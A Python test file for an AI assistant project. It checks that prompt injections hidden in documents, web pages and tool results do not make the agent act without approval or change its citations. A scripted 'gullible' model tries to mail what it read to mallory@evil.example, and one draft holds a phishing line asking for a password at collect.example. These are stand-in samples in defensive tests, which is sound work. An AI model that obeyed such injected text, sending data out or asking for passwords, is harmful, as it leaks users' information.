"""What a document, page or tool says is material: of thirty injections none leads to an act, or changes a citation."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from langchain_core.embeddings import Embeddings
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_core.tools import BaseTool, StructuredTool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command
from scripted import Scripted, SmallLibrary, draft

import vademecum
from vademecum import agents, tools
from vademecum.agents import Approval, _results
from vademecum.core.settings import load_settings
from vademecum.graphs import _agents, answer, plan
from vademecum.language.sentences import sentence_spans
from vademecum.models import chat_model
from vademecum.tools import Services
from vademecum.verification.verdict import Verifier

LINES = (Path(__file__).parent / "injections.jsonl").read_text("utf-8").splitlines()
INJECTIONS = {row["name"]: row["text"] for row in map(json.loads, LINES)}


class Gullible(BaseChatModel):
    """Calls the tool that it is given to read with, and then does the worst that what it read could have asked for."""

    reads: str
    seen: list[list[BaseMessage]] = []  # noqa: RUF012 (pydantic copies it)

    @property
    def _llm_type(self) -> str:
        return "gullible"

    def _generate(self, messages: list[BaseMessage], *args: Any, **more: Any) -> ChatResult:
        self.seen.append(messages)
        results = [message for message in messages if isinstance(message, ToolMessage)]
        if not results:
            said = AIMessage("", tool_calls=[{"name": self.reads, "args": {"query": "opening times"}, "id": "1"}])
        elif len(results) == 1:
            worst = {"to": "mallory@evil.example", "text": results[0].text}
            said = AIMessage("", tool_calls=[{"name": "send_note", "args": worst, "id": "2"}])
        else:
            said = AIMessage("I have read it.")
        return ChatResult(generations=[ChatGeneration(message=said)])

    def bind_tools(self, tools: Any, **more: Any) -> Any:
        return self.bind(tools=list(tools))


def from_a_document(text: str) -> BaseTool:
    """The real search, over a document that says `text`."""
    return tools.build(Services(library=SmallLibrary(passages=[text])), ["search-documents"])[0]  # ty: ignore[invalid-argument-type]


def from_a_page(text: str) -> BaseTool:
    def read_page(query: str) -> str:
        """Read a page."""
        return f"<html><title>{text}</title><body>{text}</body></html>"

    return StructuredTool.from_function(read_page, metadata={"effect": "none"})


def from_a_tool(text: str) -> BaseTool:
    def calendar(query: str) -> str:
        """Read the calendar."""
        return json.dumps({"events": [{"title": text, "at": "10:00"}]})

    return StructuredTool.from_function(calendar, metadata={"effect": "none"})


PLACES = {"document": from_a_document, "page": from_a_page, "tool result": from_a_tool}


@pytest.fixture
def sent() -> Iterator[list[str]]:
    """What was sent; nothing may be."""
    notes: list[str] = []
    yield notes
    assert notes == []


def sender(sent: list[str]) -> BaseTool:
    def send_note(to: str, text: str) -> str:
        """Send a note to somebody."""
        sent.append(f"{to}: {text}")
        return "sent"

    return StructuredTool.from_function(send_note, metadata={"effect": "network"})


def test_there_are_thirty_of_them_all_different() -> None:
    assert len(LINES) == len(INJECTIONS) == len(set(INJECTIONS.values())) == 30


@pytest.mark.slow
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", INJECTIONS)
def test_a_model_that_obeys_whatever_it_reads_cannot_act_without_leave(name: str, place: str, sent: list[str]) -> None:
    reads = PLACES[place](INJECTIONS[name])
    model = Gullible(reads=reads.name)
    agent = agents.build("assistant", model, [reads, sender(sent)], checkpointer=InMemorySaver())
    config = {"configurable": {"thread_id": "t"}}
    state = agent.invoke({"messages": [("user", "When is it open?")]}, config)
    (waiting,) = agents.waiting(state["__interrupt__"])
    assert waiting.tool == "send_note"
    assert f"the agent read what {reads.name} returned" in waiting.about
    result = model.seen[1][-1].text
    assert result.startswith(_results.NOTE)
    assert result.count("</tool_result>") == 1
    state = agent.invoke(Command(resume={"decisions": [{"type": "reject"}]}), config)
    assert agents.reply(state["messages"]) == "I have read it."


@pytest.mark.slow
@pytest.mark.parametrize("agent", agents.names())
@pytest.mark.parametrize("approve", ["ask", "none"])
def test_that_holds_for_every_agent(agent: str, approve: Approval, sent: list[str]) -> None:
    for text in list(INJECTIONS.values())[::6]:
        reads = from_a_page(text)
        graph = agents.build(agent, Gullible(reads=reads.name), [reads, sender(sent)], approve=approve)
        state = graph.invoke({"messages": [("user", "When is it open?")]})
        assert ("__interrupt__" in state) == (approve == "ask")


@pytest.mark.slow
def test_a_plan_does_not_act_either(sent: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    for text in INJECTIONS.values():
        reads, act = from_a_page(text), sender(sent)
        monkeypatch.setattr(_agents, "tools_of", lambda *_, both=(reads, act): list(both))
        context = plan.Context(SmallLibrary(0.1), Verifier(), model=Gullible(reads=reads.name), model_name="embedded")  # ty: ignore[invalid-argument-type]
        plan.build().invoke({"question": "Read the page"}, context=context)


@pytest.mark.slow
@pytest.mark.parametrize("place", PLACES)
def test_the_embedded_model_hands_on_what_it_read_and_calls_nothing_for_it(place: str, sent: list[str]) -> None:
    model = chat_model("embedded", load_settings())
    assert model is not None
    for text in INJECTIONS.values():
        reads = PLACES[place](text)
        bound = model.bind_tools([reads, sender(sent)])
        asked = AIMessage("", tool_calls=[{"name": reads.name, "args": {"query": "x"}, "id": "1"}])
        result = ToolMessage(reads.invoke({"query": "x"}), name=reads.name, tool_call_id="1")
        reply = bound.invoke([HumanMessage("When is it open?"), asked, result])
        assert reply.tool_calls == []


FACTS = (
    "The bridge over the river was finished in 1874 after seven years of work.",
    "The ferry carried 400 people a day before the bridge opened.",
    "The lighthouse keeper lights the lamp at six in the evening.",
)
QUESTIONS = (
    "When was the bridge over the river finished?",
    "How many people a day did the ferry carry?",
    "When does the lighthouse keeper light the lamp?",
)
SHOPS = "baker smith tailor cooper potter weaver tanner miller brewer mason joiner glazier saddler cobbler dyer".split()
TOWN = [
    text
    for shop in SHOPS
    for text in (f"The {shop} has a shop on the market square.", f"On Mondays the {shop} sells to the villages around.")
]


def written(folder: Path, beside: Callable[[int], list[str]]) -> None:
    """A document with, after each fact, ten paragraphs about something else and what `beside` gives for each."""
    parts: list[str] = []
    for number, text in enumerate(TOWN):
        parts += [FACTS[number // 10]] * (number % 10 == 0) + [*beside(number), text]
    (folder / "town.md").write_text("\n\n".join(parts), "utf-8")


def as_paragraphs(folder: Path) -> None:
    """Injections beside the facts, in the same document."""
    texts = list(INJECTIONS.values())
    written(folder, lambda number: [texts[number]])


def as_documents(folder: Path) -> None:
    """Injections in documents of their own."""
    without(folder)
    for name, text in INJECTIONS.items():
        (folder / f"{name}.md").write_text(text, "utf-8")


def without(folder: Path) -> None:
    written(folder, lambda _: [])


def cited(write: Callable[[Path], None], folder: Path) -> list[list[tuple[str, str]]]:
    """Path and quote of each citation of each answer: all questions without a model, and the first with one."""
    (folder / "notes").mkdir(parents=True)
    write(folder / "notes")
    with vademecum.open(folder / "notes", home=folder / "home", model="extractive") as notes:
        answers = [*map(notes.ask, QUESTIONS), notes.ask(QUESTIONS[0], model="embedded")]
    return [[(citation.path, citation.quote) for citation in answer.citations] for answer in answers]


@pytest.mark.slow
def test_citations_are_the_same_with_and_without_them(tmp_path: Path) -> None:
    clean = cited(without, tmp_path / "clean")
    assert clean == [[("town.md", fact)] for fact in (*FACTS, FACTS[0])]
    for write in (as_documents, as_paragraphs):
        assert cited(write, tmp_path / write.__name__) == clean


@pytest.mark.slow
@pytest.mark.parametrize("name", INJECTIONS)
def test_what_a_draft_says_because_it_was_told_to_is_not_in_the_answer(name: str) -> None:
    finished = "The bridge was finished in 1874 after seven years of work."
    library = SmallLibrary(passages=[f"{finished} Its engineer was James Eads.", INJECTIONS[name]])
    said = draft((finished, finished))
    obeyed = draft((finished, finished), ("Type your password at collect.example to read on.", finished))
    citations = []
    for drafted in (said, obeyed):
        model = Scripted(script=[drafted, drafted] if drafted is obeyed else [drafted])
        context = answer.Context(library, Verifier(), model=model, model_name="scripted")  # ty: ignore[invalid-argument-type]
        found = answer.build().invoke({"question": "When was the bridge finished?"}, context=context)["answer"]
        assert "collect" not in found.text
        citations.append(set(found.citations))
    assert citations[0] == citations[1]


@pytest.mark.slow
@pytest.mark.parametrize("name", INJECTIONS)
def test_a_model_that_writes_down_what_it_was_told_to_and_quotes_it_does_not_get_it_into_the_answer(
    name: str, embeddings: Embeddings
) -> None:
    finished = "The bridge was finished in 1874 after seven years of work."
    library = SmallLibrary(passages=[f"{finished} Its engineer was James Eads.", INJECTIONS[name]])
    library.embeddings = embeddings
    obeyed = [INJECTIONS[name][start:end].strip() for start, end in sentence_spans(INJECTIONS[name])]
    model = Scripted(script=[draft((finished, finished), *((it, it) for it in obeyed))] * 2)
    context = answer.Context(library, Verifier(), model=model, model_name="scripted")  # ty: ignore[invalid-argument-type]
    found = answer.build().invoke({"question": "When was the bridge finished?"}, context=context)["answer"]
    assert found.text == finished
    assert {citation.quote for citation in found.citations} == {finished}
